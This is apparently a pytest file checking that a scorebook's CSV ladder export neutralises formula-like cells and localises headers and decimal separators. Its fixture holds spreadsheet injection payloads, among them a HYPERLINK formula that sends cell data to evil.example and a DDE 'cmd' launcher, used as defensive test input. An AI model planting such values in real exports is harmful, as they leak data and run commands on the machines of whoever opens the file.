"""The season's ladder as a spreadsheet: safe to open, in the reader's language."""

from __future__ import annotations

import csv
import io

import pytest

from scorebook.clubs import export

ROWS = [
    {"rank": 1, "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "value": 2.43,
     "sessions": 3, "partners": 2, "qualified": True},
    {"rank": 2, "name": "+cmd|' /C calc'!A0", "value": -1.5, "sessions": 2, "partners": 1,
     "qualified": True},
    {"rank": None, "name": "@SUM(1+1)", "value": 0.0, "sessions": 1, "partners": 1,
     "qualified": False},
    {"rank": None, "name": "\tTab", "value": 0.0, "sessions": 1, "partners": 1,
     "qualified": False},
    {"rank": None, "name": "-Minus", "value": 0.0, "sessions": 1, "partners": 1,
     "qualified": False},
]  # fmt: skip


def read(text: str, delimiter: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


@pytest.mark.parametrize("language", ["en", "ru"])
def test_no_text_cell_starts_like_a_formula(language):
    rows = read(export.ladder_csv(ROWS, language), ";" if language == "ru" else ",")
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + r["name"] for r in ROWS]
    assert all(not cell.startswith(export.FORMULA_START) for row in rows for cell in row[1:2])


def test_numbers_stay_numbers_with_the_readers_decimal_separator():
    english = read(export.ladder_csv(ROWS, "en"), ",")
    russian = read(export.ladder_csv(ROWS, "ru"), ";")
    assert [r[2] for r in english[1:3]] == ["2.43", "-1.5"]  # a negative rating: a number
    assert [r[2] for r in russian[1:3]] == ["2,43", "-1,5"]
    assert russian[1][0] == "1" and russian[3][0] == ""


def test_the_header_and_the_words_are_in_the_readers_language():
    russian = read(export.ladder_csv(ROWS, "ru"), ";")
    english = read(export.ladder_csv(ROWS, "en"), ",")
    assert english[0][0] == "Rank" and english[1][5] == "yes" and english[3][5] == "no"
    assert russian[0][0] != "Rank" and russian[1][5] == "да" and russian[3][5] == "нет"
